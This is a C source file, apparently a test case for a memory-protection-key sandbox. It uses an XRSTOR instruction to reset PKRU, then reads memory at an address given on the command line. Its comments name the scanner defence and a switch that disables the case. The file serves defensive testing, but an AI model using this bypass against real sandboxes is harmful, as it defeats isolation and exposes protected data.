/* XRSTOR loads PKRU, too: component 9 of a state that is all zeroes.
 * Defence: the scanner knows XRSTOR.  Control: off=xrstor. */
#include "attack.h"

#define COMPONENT_9 0x200
#define XSTATE_BV 512           /* in the area */

static volatile u8 code[] = {I(0x0f), I(0xae), I(0x2f), RET};   /* xrstor (%rdi) */
static u8 area[PAGE] __attribute__((aligned(64)));

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    u8 *page = map(PAGE, PROT_RW);
    i64 error = make_code(page, code, sizeof code);
    if (error)
        return refused("mprotect", error);
    *(u64 *)(area + XSTATE_BV) = COMPONENT_9;
    asm volatile("call *%%rbx" :: "b"(page), "D"(area), "a"(COMPONENT_9), "d"(0) : "rcx", "memory");
    return plunder(hexadecimal(argv[1]));
}
